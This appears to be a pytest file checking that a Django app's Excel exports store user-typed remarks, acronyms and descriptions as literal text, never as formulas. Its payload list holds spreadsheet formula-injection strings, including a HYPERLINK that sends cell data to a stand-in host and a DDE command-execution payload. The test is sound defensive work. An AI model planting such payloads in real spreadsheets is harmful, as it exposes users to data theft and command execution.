"""What offices type reaches the exported workbooks as text, never as a formula: a remark, an acronym or its
description that starts with =, +, -, @, a tab or a carriage return is a text cell that Excel shows as typed
and does not evaluate (nor re-evaluate when the cell is edited), in the quarterly workbook, the agreement
workbook and the workbooks of a bulk export's ZIP. Numbers stay numbers."""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from io import BytesIO

import pytest
from django.core.files.storage import default_storage
from openpyxl import load_workbook

from indicators.models import Achievement
from reports.services import export_job_create, export_job_run, render_report

from . import test_reports_support as support

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("own_media_root")]
own_media_root = support.own_media_root

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
# XML reads a carriage return back as a line feed: the payloads as openpyxl returns them from the file.
READ_BACK = {payload: payload.replace("\r", "\n") for payload in PAYLOADS}


@pytest.fixture
def hostile(agreement_a):
    """Office A's agreement with every payload typed as a Q1 remark, an acronym and its description."""
    for position, payload in enumerate(PAYLOADS, start=1):
        agreement_a.acronyms.create(position=position, acronym=payload, description=payload)
    for indicator, payload in zip(agreement_a.indicators.order_by("code"), PAYLOADS, strict=False):
        Achievement.objects.create(indicator=indicator, quarter=1, value_number=400, remarks=payload)
    return agreement_a


def sheet_xml(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return {
            name: archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        }


def assert_text_not_formula(content: bytes, expected: list[str]) -> None:
    # No formula anywhere in the file: openpyxl writes one as an <f> element.
    for name, xml in sheet_xml(content).items():
        assert not re.search(r"<f[ >]", xml), name
    book = load_workbook(BytesIO(content))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in READ_BACK.values():
                    # Shown as typed, stored as text, and marked so that Excel keeps it text on editing.
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
                    found.append(cell.value)
    assert sorted(found) == sorted(READ_BACK[payload] for payload in expected)


def numbers_of(content: bytes, sheet_name: str) -> list:
    sheet = load_workbook(BytesIO(content))[sheet_name]
    return [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "n" and cell.value]


def test_the_quarterly_workbook_writes_hostile_remarks_as_text(hostile):
    content = render_report(kind="quarterly", agreement=hostile, fmt="xlsx", quarter=1).content
    assert_text_not_formula(content, PAYLOADS[:4])  # the agreement has four indicators, one remark each
    numbers = numbers_of(content, load_workbook(BytesIO(content)).sheetnames[0])
    assert 400 in numbers and 40 in numbers  # achievements and weights are still numeric cells


def test_the_agreement_workbook_writes_hostile_acronyms_and_descriptions_as_text(hostile):
    content = render_report(kind="agreement", agreement=hostile, fmt="xlsx").content
    assert_text_not_formula(content, PAYLOADS * 2)  # each payload as an acronym and as its description


def test_the_workbooks_of_a_bulk_export_zip_write_hostile_text_as_text(hostile, ada):
    job = export_job_create(actor=ada, kind="quarterly", fmt="xlsx", agreements=[hostile], quarter=1)
    job = export_job_run(job_id=job.pk)
    with default_storage.open(job.result_name, "rb") as handle, zipfile.ZipFile(handle) as archive:
        (name,) = [n for n in archive.namelist() if n.endswith(".xlsx")]
        content = archive.read(name)
    assert_text_not_formula(content, PAYLOADS[:4])


@pytest.mark.skipif(
    not (shutil.which("soffice") or shutil.which("libreoffice")),
    reason="LibreOffice is not installed: the workbook is checked with openpyxl only",
)
def test_libreoffice_reads_the_hostile_remarks_as_the_literal_text(hostile, tmp_path):
    workbook = tmp_path / "quarterly.xlsx"
    workbook.write_bytes(render_report(kind="quarterly", agreement=hostile, fmt="xlsx", quarter=1).content)
    office = shutil.which("soffice") or shutil.which("libreoffice")
    subprocess.run(
        [office, "--headless", "--convert-to", "csv", "--outdir", str(tmp_path), str(workbook)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    csv_text = (tmp_path / "quarterly.csv").read_text(encoding="utf-8", errors="replace")
    for payload in ("=cmd|' /C calc'!A0", "+1+1", "-2+3"):
        assert payload in csv_text
    assert "evil.example" in csv_text
